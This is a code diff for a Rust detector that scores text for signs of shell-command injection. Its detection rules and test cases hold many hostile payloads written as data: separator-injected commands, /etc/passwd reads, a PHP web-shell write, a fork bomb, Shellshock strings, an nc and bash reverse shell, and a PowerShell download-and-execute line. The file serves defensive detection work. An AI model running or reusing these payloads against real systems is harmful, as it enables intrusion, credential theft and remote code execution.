-        word.starts_with(b"/") && is_path && slashes >= 2 && inside && (marks >= 3 || marks >= 1 && caseless::starts_any(word, &["/bin/", "/etc/", "/usr/", "/b", "/e?", "/?"]) && is_program_glob(word))
+    let is_end = |it: &u8| {
+        !(it.is_ascii_alphanumeric()
+            || matches!(it, b'/' | b'?' | b'*' | b'[' | b']' | b'-' | b'_' | b'.' | b'!'))
+    };
+    text.split(is_end).take(PIECES_MAX).any(|word| {
+        let mut parts = word.split(|it| *it == b'/').filter(|it| !it.is_empty());
+        let (Some(folder), Some(file)) = (parts.next(), parts.next()) else { return false };
+        if !word.starts_with(b"/") {
+            return false;
+        }
+        let marks = |it: &[u8]| it.iter().filter(|it| matches!(it, b'?' | b'*' | b'[')).count();
+        let is_folder = FOLDERS.iter().any(|it| matches_glob(folder, it.as_bytes()));
+        let has_letters = folder.iter().chain(file).any(u8::is_ascii_alphabetic);
+        let in_folder =
+            marks(folder) > 0 && is_folder && (has_letters || marks(folder) + marks(file) >= 5);
+        let is_known = matches!(folder, b"etc" | b"bin" | b"usr" | b"sbin");
+        let splits = |it: &[u8]| {
+            it.starts_with(b"[") && it.contains(&b']') && it.len() > 3
+                || it
+                    .iter()
+                    .position(|it| *it == b'?')
+                    .is_some_and(|at| at + 1 < it.len() && !it.contains(&b'.'))
+                || it.contains(&b'?') && it.len() <= 3
+        };
+        in_folder || is_known && splits(file)
     })
 }
 
-/// Whether a path with marks fits a folder of programs or a file of users.
-fn is_program_glob(word: &[u8]) -> bool {
-    ["/bin/", "/etc/passwd", "/etc/shadow", "/usr/bin/"].iter().any(|it| {
-        let fits = |(mark, byte): (&u8, &u8)| *mark == b'?' || mark == byte;
-        word.len() >= it.len() && word.iter().zip(it.as_bytes()).all(fits)
-    })
+const FOLDERS: &[&str] = &["bin", "etc", "usr", "sbin", "proc", "home", "root"];
+
+/// Whether `glob` stands for `name`: `?` for one byte, the first `*` for any.
+fn matches_glob(glob: &[u8], name: &[u8]) -> bool {
+    let fits = |glob: &[u8], name: &[u8]| {
+        glob.iter().zip(name).all(|(mark, byte)| matches!(mark, b'?' | b'*') || mark == byte)
+    };
+    match memchr::memchr(b'*', glob).and_then(|at| Some((glob.get(..at)?, glob.get(at + 1..)?))) {
+        Some((front, back)) => {
+            let rest = name.get(name.len().saturating_sub(back.len())..).unwrap_or_default();
+            !front.is_empty()
+                && front.len() + back.len() <= name.len()
+                && fits(front, name)
+                && fits(back, rest)
+        }
+        None => glob.len() == name.len() && fits(glob, name),
+    }
 }
 
 /// A shell whose input and output are a socket.
@@ -578,15 +888,21 @@ fn has_socket(text: &[u8]) -> bool {
     let netcat = || {
         commands(text, false).take(PIECES_MAX).any(|it| {
             let name = bare(it.text.trim_ascii());
-            let is_netcat = ["nc", "ncat", "netcat"].iter().any(|it| name.eq_ignore_ascii_case(it.as_bytes()));
-            is_netcat && words(it.arguments).any(|it| matches!(it, [b'-', .., b'e' | b'c']) && it.len() <= 8)
+            let is_netcat =
+                ["nc", "ncat", "netcat"].iter().any(|it| name.eq_ignore_ascii_case(it.as_bytes()));
+            is_netcat
+                && words(it.arguments)
+                    .any(|it| matches!(it, [b'-', .., b'e' | b'c']) && it.len() <= 8)
         })
     };
     ["/dev/tcp/", "/dev/udp/"].iter().any(|it| memchr::memmem::find(text, it.as_bytes()).is_some())
         || netcat()
         || caseless::contains(text, b"bash -i") && text.contains(&b'>')
-        || caseless::contains(text, b"mkfifo ") && caseless::contains_any(text, &["nc ", "telnet ", "openssl "])
-        || caseless::contains_any(text, &["socket"]) && caseless::contains_any(text, &["/bin/sh", "/bin/bash"]) && caseless::contains_any(text, &["dup2", "exec", "connect", "spawn"])
+        || caseless::contains(text, b"mkfifo ")
+            && caseless::contains_any(text, &["nc ", "telnet ", "openssl "])
+        || caseless::contains_any(text, &["socket"])
+            && caseless::contains_any(text, &["/bin/sh", "/bin/bash"])
+            && caseless::contains_any(text, &["dup2", "exec", "connect", "spawn"])
 }
 
 /// Something is sent to or read from the socket.
@@ -598,29 +914,99 @@ fn has_redirect(text: &[u8]) -> bool {
 /// runs is one.
 fn call(text: &[u8]) -> Option<bool> {
     let text = text.trim_ascii();
-    let text = ["<?php", "<?=", "<?"].iter().find_map(|it| text.strip_prefix(it.as_bytes())).unwrap_or(text);
-    let is_lead = |it: &&u8| matches!(it, b';' | b'|' | b'&' | b' ' | b'.' | b'@' | b'$' | b'{' | b'\'' | b'"' | b')' | b'+' | b'`' | b'(' | b'!');
+    let text = ["<?php", "<?=", "<?"]
+        .iter()
+        .find_map(|it| text.strip_prefix(it.as_bytes()))
+        .unwrap_or(text);
+    let is_lead = |it: &&u8| {
+        matches!(
+            it,
+            b';' | b'|'
+                | b'&'
+                | b' '
+                | b'.'
+                | b'@'
+                | b'$'
+                | b'{'
+                | b'\''
+                | b'"'
+                | b')'
+                | b'+'
+                | b'`'
+                | b'('
+                | b'!'
+        )
+    };
     let lead = text.iter().take_while(is_lead).count();
+    let before = text;
     let text = text.get(lead..).unwrap_or_default();
+    // PHP evaluates what stands in `${}` of a string.
+    let marks = before.get(..lead).unwrap_or_default();
+    let is_nested =
+        [&b"${@"[..], b"{${"].iter().any(|it| memchr::memmem::find(marks, it).is_some());
+    if is_nested
+        && text.iter().skip_while(|it| it.is_ascii_alphanumeric() || **it == b'_').next()
+            == Some(&b'(')
+    {
+        return Some(true);
+    }
     let name = CALLS.iter().find(|it| caseless::starts(text, it.as_bytes()))?;
     let rest = text.get(name.len()..)?.trim_ascii_start().strip_prefix(b"(")?.trim_ascii_start();
+    if matches!(marks, [b';' | b'|' | b'&', ..]) && rest.contains(&b')') {
+        return Some(true);
+    }
     let [b'"' | b'\'' | b'`', inside @ ..] = rest else {
         return rest.starts_with(b"$_").then_some(true).or(Some(false));
     };
     let end = memchr::memchr3(b'"', b'\'', b')', inside).unwrap_or(inside.len());
     let inside = inside.get(..end).unwrap_or_default();
     let first = commands(inside, false).next()?;
-    Some(fit(&first) > Fit::No)
+    Some(first.name > Name::Other)
+}
+
+/// Whether a command is run by a call in the midst.
+fn runs(text: &[u8]) -> bool {
+    ["exec(", "execsync(", "system(", "popen("].iter().any(|it| {
+        let Some(at) = caseless::find(text, it.as_bytes()) else { return false };
+        let argument = text.get(at + it.len()..).unwrap_or_default().trim_ascii_start();
+        let argument = argument.strip_prefix(b"\\").unwrap_or(argument);
+        let [b'"' | b'\'' | b'`', inside @ ..] = argument else { return false };
+        let end = memchr::memchr3(b'"', b'\'', b'\\', inside).unwrap_or(inside.len());
+        commands(inside.get(..end).unwrap_or_default(), false).any(|it| fit(&it) > Fit::No)
+    })
 }
 
 const CALLS: &[&str] = &[
-    "system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "eval", "os.system", "os.popen",
-    "subprocess.call", "subprocess.check_output", "subprocess.popen", "subprocess.run", "__import__", "assert", "print`", "child_process.exec",
-    "require('child_process')", "runtime.getruntime().exec", "java.lang.runtime.getruntime().exec", "print(md5", "file_get_contents", "phpinfo",
+    "system",
+    "exec",
+    "passthru",
+    "shell_exec",
+    "popen",
+    "proc_open",
+    "pcntl_exec",
+    "eval",
+    "os.system",
+    "os.popen",
+    "subprocess.call",
+    "subprocess.check_output",
+    "subprocess.popen",
+    "subprocess.run",
+    "__import__",
+    "assert",
+    "print`",
+    "child_process.exec",
+    "require('child_process')",
+    "runtime.getruntime().exec",
+    "java.lang.runtime.getruntime().exec",
+    "print(md5",
+    "file_get_contents",
+    "phpinfo",
 ];
 
 fn is_encoded_option(word: &[u8]) -> bool {
-    ["-e", "-ec", "-en", "-enc", "-encodedcommand", "/e", "/enc", "-encoded", "/ec"].iter().any(|it| word.eq_ignore_ascii_case(it.as_bytes()))
+    ["-e", "-ec", "-en", "-enc", "-encodedcommand", "/e", "/enc", "-encoded", "/ec"]
+        .iter()
+        .any(|it| word.eq_ignore_ascii_case(it.as_bytes()))
 }
 
 /// `Invoke-WebRequest http://x`: a verb, a noun and an argument.
@@ -631,14 +1017,43 @@ fn is_cmdlet(text: &[u8]) -> bool {
     let Some(dash) = memchr::memchr(b'-', name) else { return false };
     let (verb, noun) = name.split_at_checked(dash).unwrap_or_default();
     let noun = noun.get(1..).unwrap_or_default();
-    caseless::is_among(verb, VERBS) && caseless::starts_any(noun, NOUNS) && argument.is_none_or(|it| is_technical(unquoted(it), true) || it.starts_with(b"(") || is_file(it))
+    caseless::is_among(verb, VERBS)
+        && caseless::starts_any(noun, NOUNS)
+        && argument.is_none_or(|it| {
+            is_technical(unquoted(it), true) || it.starts_with(b"(") || is_file(it)
+        })
 }
 
-const VERBS: &[&str] = &["add", "clear", "copy", "enter", "export", "get", "import", "invoke", "new", "out", "remove", "set", "start", "stop", "write"];
+const VERBS: &[&str] = &[
+    "add", "clear", "copy", "enter", "export", "get", "import", "invoke", "new", "out", "remove",
+    "set", "start", "stop", "write",
+];
 
 const NOUNS: &[&str] = &[
-    "webrequest", "restmethod", "expression", "command", "item", "content", "process", "service", "object", "childitem", "wmi", "cim",
-    "bitstransfer", "host", "pssession", "executionpolicy", "mppreference", "localuser", "netip", "aduser", "alias", "variable", "acl", "eventlog",
+    "webrequest",
+    "restmethod",
+    "expression",
+    "command",
+    "item",
+    "content",
+    "process",
+    "service",
+    "object",
+    "childitem",
+    "wmi",
+    "cim",
+    "bitstransfer",
+    "host",
+    "pssession",
+    "executionpolicy",
+    "mppreference",
+    "localuser",
+    "netip",
+    "aduser",
+    "alias",
+    "variable",
+    "acl",
+    "eventlog",
 ];
 
 /// `for %x in (...) do`, `if exist x command`, `if a equ b`.
@@ -648,7 +1063,9 @@ fn is_control(text: &[u8]) -> bool {
     let text = text.get(lead..).unwrap_or_default();
     let mut words = words(text).take(PIECES_MAX);
     let Some(first) = words.next() else { return false };
-    let is = |word: &[u8], names: &[&str]| names.iter().any(|it| word.eq_ignore_ascii_case(it.as_bytes()));
+    let is = |word: &[u8], names: &[&str]| {
+        names.iter().any(|it| word.eq_ignore_ascii_case(it.as_bytes()))
+    };
     if is(first, &["for"]) {
         let has_variable = words.by_ref().take(8).any(|it| it.starts_with(b"%"));
         return has_variable && words.any(|it| is(it, &["in"]));
@@ -659,40 +1076,329 @@ fn is_control(text: &[u8]) -> bool {
     let mut rest = words.skip_while(|it| is(it, &["/i", "not"]));
     let Some(second) = rest.next() else { return false };
     let is_test = is(second, &["exist", "errorlevel", "defined", "cmdextversion"]);
-    let compares = |it: &[u8]| is(it, &["equ", "neq", "lss", "leq", "gtr", "geq"]) || memchr::memmem::find(it, b"==").is_some();
+    let compares = |it: &[u8]| {
+        is(it, &["equ", "neq", "lss", "leq", "gtr", "geq"])
+            || memchr::memmem::find(it, b"==").is_some()
+    };
     let third = rest.next();
-    is_test && third.is_some() && rest.next().is_some() || (compares(second) || third.is_some_and(compares)) && !matches!(second, [b'(', b'a'..=b'z' | b'A'..=b'Z' | b'$', ..])
+    is_test && third.is_some() && rest.next().is_some()
+        || (compares(second) || third.is_some_and(compares))
+            && !matches!(second, [b'(', b'a'..=b'z' | b'A'..=b'Z' | b'$', ..])
 }
 
 /// `<<<word`, `<(command)`, `>(command)`.
 fn is_here(text: &[u8]) -> bool {
     let process = |at: usize| {
         let inside = text.get(at + 2..).unwrap_or_default();
-        let count = inside.iter().take_while(|it| it.is_ascii_alphanumeric() || **it == b' ').count();
+        let count =
+            inside.iter().take_while(|it| it.is_ascii_alphanumeric() || **it == b' ').count();
         inside.get(count) == Some(&b')') && (count == 0 || at == 0 || at < LEAD_BYTES_MAX)
     };
-    memchr::memmem::find(text, b"<<<").is_some_and(|at| at > 0)
-        || [b"<(", b">("].iter().any(|it| memchr::memmem::find_iter(text, it).take(PIECES_MAX).any(process))
+    let is_html = memchr::memmem::find(text, b"</").is_some();
+    let has_process = || {
+        [b"<(", b">("]
+            .iter()
+            .any(|it| memchr::memmem::find_iter(text, it).take(PIECES_MAX).any(process))
+    };
+    memchr::memmem::find(text, b"<<<").is_some_and(|at| at > 0) || !is_html && has_process()
 }
 
 /// A line end and a command of IMAP, SMTP or POP3 in capitals, with or without a tag.
 fn is_protocol(text: &[u8]) -> bool {
-    let Some(at) = memchr::memchr2(b'\r', b'\n', text).filter(|at| *at <= LEAD_BYTES_MAX) else { return false };
+    let Some(at) = memchr::memchr2(b'\r', b'\n', text).filter(|at| *at <= LEAD_BYTES_MAX) else {
+        return false;
+    };
     let line = text.get(at..).unwrap_or_default().trim_ascii();
     if line.contains(&b'\n') {
         return false;
     }
     let mut words = words(line);
     let Some(first) = words.next() else { return false };
-    let is = |word: &[u8]| PROTOCOL_COMMANDS.iter().any(|it| word.eq_ignore_ascii_case(it.as_bytes())) && !matches!(word, [a, b, ..] if a.is_ascii_uppercase() && b.is_ascii_lowercase());
-    let is_tag = matches!(first, [b'a' | b'A', digits @ ..] if digits.iter().all(u8::is_ascii_digit));
-    let (command, argument) = if is_tag { (words.next().unwrap_or_default(), words.next()) } else { (first, words.next()) };
+    let is = |word: &[u8]| {
+        PROTOCOL_COMMANDS.iter().any(|it| word.eq_ignore_ascii_case(it.as_bytes()))
+            && !matches!(word, [a, b, ..] if a.is_ascii_uppercase() && b.is_ascii_lowercase())
+    };
+    let is_tag = matches!(first, [b'a'..=b'z' | b'A'..=b'Z', digits @ ..] if !digits.is_empty() && digits.iter().all(u8::is_ascii_digit));
+    let (command, argument) = if is_tag {
+        (words.next().unwrap_or_default(), words.next())
+    } else {
+        (first, words.next())
+    };
     let is_number = argument.is_none_or(|it| it.iter().all(u8::is_ascii_digit));
     is(command) && (is_tag || at == 0 && (is_number || command.iter().all(u8::is_ascii_uppercase)))
 }
 
 const PROTOCOL_COMMANDS: &[&str] = &[
-    "APOP", "APPEND", "AUTH", "AUTHENTICATE", "CAPA", "CAPABILITY", "CHECK", "CLOSE", "COPY", "CREATE", "DATA", "DELE", "DELETE", "EHLO", "EXAMINE",
-    "EXPN", "EXPUNGE", "FETCH", "HELO", "HELP", "LIST", "LOGIN", "LOGOUT", "LSUB", "MAIL", "NOOP", "PASS", "QUIT", "RCPT", "RENAME", "RETR",
-    "RSET", "SEARCH", "SELECT", "SIZE", "STARTTLS", "STAT", "STATUS", "STLS", "STORE", "SUBSCRIBE", "TOP", "TURN", "UID", "UIDL", "UNSUBSCRIBE", "USER", "VRFY",
+    "APOP",
+    "APPEND",
+    "AUTH",
+    "AUTHENTICATE",
+    "CAPA",
+    "CAPABILITY",
+    "CHECK",
+    "CLOSE",
+    "COPY",
+    "CREATE",
+    "DATA",
+    "DELE",
+    "DELETE",
+    "EHLO",
+    "EXAMINE",
+    "EXPN",
+    "EXPUNGE",
+    "FETCH",
+    "HELO",
+    "HELP",
+    "LIST",
+    "LOGIN",
+    "LOGOUT",
+    "LSUB",
+    "MAIL",
+    "NOOP",
+    "PASS",
+    "QUIT",
+    "RCPT",
+    "RENAME",
+    "RETR",
+    "RSET",
+    "SEARCH",
+    "SELECT",
+    "SIZE",
+    "STARTTLS",
+    "STAT",
+    "STATUS",
+    "STLS",
+    "STORE",
+    "SUBSCRIBE",
+    "TOP",
+    "TURN",
+    "UID",
+    "UIDL",
+    "UNSUBSCRIBE",
+    "USER",
+    "VRFY",
 ];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strength(text: &str) -> Option<Strength> {
+        look(&Input::of(text.as_bytes(), false)).strength(SIGNS)
+    }
+
+    #[track_caller]
+    fn check(expected: Option<Strength>, values: &[&str]) {
+        for value in values {
+            let found = look(&Input::of(value.as_bytes(), false));
+            let names: Vec<_> =
+                (0..SIGNS.len()).filter(|it| found.has(*it)).map(|it| SIGNS[it].name).collect();
+            assert_eq!(found.strength(SIGNS), expected, "{value}: {names:?}");
+        }
+    }
+
+    #[track_caller]
+    fn at_most(most: Strength, values: &[&str]) {
+        for value in values {
+            assert!(strength(value).is_none_or(|it| it <= most), "{value}: {:?}", strength(value));
+        }
+    }
+
+    #[test]
+    fn a_command_behind_a_separator_is_certain() {
+        check(
+            Some(Strength::Certain),
+            &[
+                "; id",
+                "|id",
+                "|id|",
+                "&& whoami",
+                "& ping -n 30 127.0.0.1 &",
+                "|| cat /etc/passwd",
+                "; SLEEP 5",
+                "127.0.0.1; whoami",
+                "127.0.0.1|WHOAMI",
+                "www.example.com;cat /etc/passwd",
+                "a);/usr/bin/id;",
+                "'; sleep 10; '",
+                "\" ; /bin/sleep 31 ;",
+                "x' && ls -la #",
+                "%0Acat%20/etc/passwd",
+                "+|+dir+c:/",
+                "; echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
+                "& net user mallory secret /ADD",
+                "\\nid\\n",
+            ],
+        );
+    }
+
+    #[test]
+    fn a_substitution_is_certain_where_it_is_all() {
+        check(
+            Some(Strength::Certain),
+            &[
+                "$(cat /etc/passwd)",
+                "$(whoami)",
+                "'`sleep 5`'",
+                "x.`nslookup x.example.com`",
+                "10.0.0.1$(sleep 5)",
+            ],
+        );
+        check(Some(Strength::Likely), &["`id`", "$(id)", "who`echo am`i"]);
+    }
+
+    #[test]
+    fn a_disguised_name_is_certain() {
+        check(
+            Some(Strength::Certain),
+            &[
+                "w'h'oami",
+                "WH\"OA\"MI",
+                "who$@ami",
+                "w\\ho\\am\\i",
+                "who^ami",
+                "c'a't /etc/passwd",
+                "cat${IFS}/etc/passwd",
+                "cat$IFS$9/etc/hosts",
+                "{cat,/etc/passwd}",
+                "{,ip,a}",
+                "/???/??t /???/p??s??",
+                "/bin/c?t",
+                "/usr/[a-z]in/bash",
+                "/et*/p*d",
+            ],
+        );
+        check(
+            Some(Strength::Likely),
+            &["a=who;b=ami;$a$b", "ls ${HOME:0:1}", "%ProgramFiles:~10,1%"],
+        );
+    }
+
+    #[test]
+    fn known_constructions_are_certain() {
+        check(
+            Some(Strength::Certain),
+            &[
+                "() { :;}; /bin/bash -c \"ping -c 3 host\"",
+                "() { _; } >_[$($())] { id; }",
+                ":(){ :|:& };:",
+                "f(){ f|f& };f",
+                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                "nc -e /bin/sh 10.0.0.1 4444",
+                "<!--#EXEC cmd=\"ls\"-->",
+                "system('id')",
+                "; exec('whoami');",
+                "<?php passthru(\"ls\");?>",
+                "${@print(1)}",
+                "{${sleep(20)}}",
+                "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
+                "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/y')\"",
+            ],
+        );
+    }
+
+    #[test]
+    fn a_command_alone_is_likely() {
+        check(
+            Some(Strength::Likely),
+            &[
+                "ping -c 3 host",
+                "curl http://example.com/x",
+                "sleep 5",
+                "which python",
+                "net localgroup x",
+                "sh -c ls",
+                "Invoke-WebRequest http://x/y.ps1",
+                "for /f \"delims=,\" %a in (x.txt) do echo %a",
+                "if exist x.txt echo y",
+                "if 1 EQU 1 echo y",
+                "\r\nA1 QUIT",
+                "phpinfo()",
+                "x$()y",
+            ],
+        );
+        check(
+            Some(Strength::Certain),
+            &["cat /etc/passwd", "type C:\\boot.ini", "cat</etc/shadow"],
+        );
+        check(Some(Strength::Hint), &["whoami", "docker", "~+"]);
+    }
+
+    #[test]
+    fn what_people_write_has_no_sign() {
+        check(
+            None,
+            &[
+                "",
+                "alice",
+                "I'd like to find the date",
+                "cat food",
+                "cats & dogs",
+                "AT&T",
+                "R&D; sales",
+                "Tom & Jerry",
+                "time flies; who knows",
+                "date",
+                "echo",
+                "a < b && c > d",
+                "name|title",
+                "text/html; charset=utf-8",
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
+                "50% off | free shipping",
+                "which one? the red; more later",
+                "C:\\Users\\me\\notes.txt",
+                "function () { return 1; }",
+                "sort[name]",
+                "{id, name}",
+                "user@example.com",
+                "2026-01-31 10:00",
+                "https://example.com/a?b=c&d=e",
+                "O'Neil & sons; much",
+                "color: red; top: 5px;",
+                "{\"a\": 1}",
+                "how are you?",
+                "/blog/[slug]",
+                "GET /x",
+                "PATCH /v1/users/7",
+            ],
+        );
+    }
+
+    #[test]
+    fn what_speaks_of_commands_is_no_certainty() {
+        at_most(
+            Strength::Likely,
+            &[
+                "npm run build && npm test",
+                "curl -f http://localhost/ || exit 1",
+                "git add . && git commit -m x",
+                "mytool | grep -i error",
+                "| grep foo",
+                "|| true",
+                "`ls -la`",
+                "$(date)",
+                "docker;kubectl;vim",
+                "title|id",
+                "dog;cat",
+                "Run `sudo rm -rf /tmp/x`; then cat the file",
+                "$(document).ready(init)",
+                "$(find)",
+                "I think; cat /etc/hosts shows it",
+                "#!/bin/sh\nset -e\ncd /tmp; ls -la\necho done\n",
+            ],
+        );
+    }
+
+    #[test]
+    fn hostile_values_take_bounded_time() {
+        for unit in [
+            "`", "$(", ";", "|id", "$IFS", "{,", "a'", "&amp", "%0a", "\\", "/?", "<(", "${",
+            "cat ",
+        ] {
+            let text: Vec<u8> = unit.bytes().cycle().take(64 * 1024).collect();
+            let start = std::time::Instant::now();
+            look(&Input::of(&text, false));
+            assert!(start.elapsed().as_millis() < 20, "{unit}: {:?}", start.elapsed());
+        }
+    }
+}
